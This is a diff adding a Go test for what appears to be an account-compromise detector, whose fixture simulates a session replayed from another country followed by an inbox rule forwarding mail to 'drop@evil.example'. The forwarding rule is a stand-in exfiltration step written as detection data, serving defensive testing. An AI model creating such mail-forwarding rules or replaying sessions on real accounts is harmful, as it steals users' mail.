@@ -226,3 +226,28 @@ func TestSignIn2026ShortExport(t *testing.T) {
 		})
 	}
 }
+
+// TestSessionReplayChain: a session replayed from another country, then an inbox rule forwarding
+// mail outside from the replaying address, makes the user high as a compromise chain.
+func TestSessionReplayChain(t *testing.T) {
+	st := newStore(t)
+	loadFixture(t, st.DB, `
+INSERT INTO fx_signins BY NAME
+SELECT 'ch-hist-' || i AS id, TIMESTAMP '2026-03-01 09:00:00' + i * INTERVAL 1 DAY AS created_at, 'bob@contoso.com' AS user_principal_name,
+    '203.0.113.10' AS ip_address, 0 AS error_code, 'US' AS country, 7922 AS asn, 'hist-' || i AS session_id
+FROM range(9) t(i);
+INSERT INTO fx_signins (id, created_at, category, user_principal_name, ip_address, asn, country, error_code, user_agent, session_id) VALUES
+    ('ch-1', TIMESTAMP '2026-03-12 11:00:00', 'interactive', 'bob@contoso.com', '203.0.113.10', 7922, 'US', 0, 'Mozilla/5.0', 'sess-bob'),
+    ('ch-2', TIMESTAMP '2026-03-12 11:20:00', 'non_interactive', 'bob@contoso.com', '203.0.113.210', 12389, 'RU', 0, 'Mozilla/5.0', 'sess-bob');
+INSERT INTO fx_unified_audit (id, created_at, record_type, operation, user_id, client_ip, parameters) VALUES
+    ('ch-fwd', TIMESTAMP '2026-03-12 11:40:00', 'ExchangeAdmin', 'New-InboxRule', 'bob@contoso.com', '203.0.113.210',
+     '[{"name":"Name","value":"x"},{"name":"ForwardTo","value":"drop@evil.example"}]');
+`)
+	if _, err := Run(context.Background(), st.DB, Options{Now: func() time.Time { return fixtureNow }}); err != nil {
+		t.Fatal(err)
+	}
+	level, reasons := levelOf(t, st.DB, "bob@contoso.com")
+	if level != "high" || !strings.Contains(reasons, "compromise chain: session_replay") {
+		t.Errorf("bob: got %s (%s); want high, a compromise chain from session_replay", level, reasons)
+	}
+}
